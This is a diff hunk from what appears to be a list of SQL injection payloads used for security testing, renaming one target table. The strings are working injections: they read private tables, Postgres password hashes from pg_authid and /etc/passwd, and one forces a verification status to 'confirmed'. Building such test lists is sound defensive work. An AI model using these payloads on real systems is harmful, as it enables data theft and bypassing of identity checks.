@@ -38,7 +38,7 @@ DEFAULT = [
     "' UNION SELECT payload::text FROM outbox_event --",
     "' UNION SELECT detail::text FROM audit_event --",
     "' UNION SELECT m::text FROM accounts_outgoingmail m --",
-    "' UNION SELECT v::text FROM vault_identityproof v --",
+    "' UNION SELECT v::text FROM vault_identitydigest v --",
     "'; UPDATE accounts_verificationstatus SET state = 'confirmed'; SELECT 'done' --",
     "' UNION SELECT rolpassword FROM pg_authid --",
     "' UNION SELECT pg_read_file('/etc/passwd') --",
